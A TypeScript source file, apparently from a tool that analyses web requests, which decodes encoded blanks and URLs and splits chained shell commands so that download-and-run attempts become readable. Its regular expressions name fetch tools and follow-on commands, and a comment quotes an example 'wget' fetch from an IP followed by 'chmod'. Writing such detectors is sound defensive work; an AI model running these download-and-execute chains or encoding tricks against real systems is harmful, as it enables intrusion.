/** Commands that fetch a file, with what requests and scripts write in place of a blank behind them. */
const ENCODED_FETCH = /(?:wget|curl|tftp|ftpget|fetch)(?:\+|%20|\$\{?IFS\}?)/i;
const ENCODED_BLANK = /\+|%20|\$\{?IFS\}?/gi;

/** What ends one command and begins another, right behind a URL. */
const NEXT_COMMAND =
  /(?:;|%3b|&&|\|\|?)(?=(?:(?:chmod|sh|bash|ash|curl|wget|cd|rm|tftp|ftpget|busybox|cat|echo|mv|cp|nohup|perl|python[23]?|php)\b|\.?\/[\w.]))/gi;

/** A URL that is encoded as a whole: `?u=http%3A%2F%2Fexample.com%2Fa`. */
const ENCODED_URL = /(?<![a-z0-9])(?:https?|ftp)%3a%2f%2f[^\s&"'<>;,|]+/gi;

/**
 * A line with the commands and URLs in it apart, as attackers type and send them:
 * `wget+http://192.0.2.1/x;chmod+x`.
 */
export function separateCommands(line: string): string {
  const plain = ENCODED_FETCH.test(line) ? line.replace(ENCODED_BLANK, " ") : line;
  const commands = plain.includes("://") ? plain.replace(NEXT_COMMAND, " ; ") : plain;
  return commands.replace(ENCODED_URL, (url) => ` ${decoded(url)} `);
}

function decoded(url: string): string {
  try {
    return decodeURIComponent(url);
  } catch (error) {
    if (error instanceof URIError) return url;
    throw error;
  }
}
